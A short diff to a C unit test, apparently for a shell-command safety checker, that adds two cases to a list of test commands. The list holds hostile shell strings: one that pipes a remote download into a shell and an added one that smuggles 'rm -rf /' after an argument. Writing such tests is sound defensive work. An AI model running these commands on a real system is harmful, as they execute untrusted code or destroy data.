@@ -223,6 +223,8 @@ static void test_wrapped_never_weaker(void **state) {
       "curl -s https://x.example | sh",
       "ls )",
       "for i in 1 2; do echo $i; done",
+      "-${",
+      "-x; rm -rf /",
   };
   for (size_t i = 0; i < AL_ARRAY_SIZE(cmds); i++) {
     judgement bare, w;
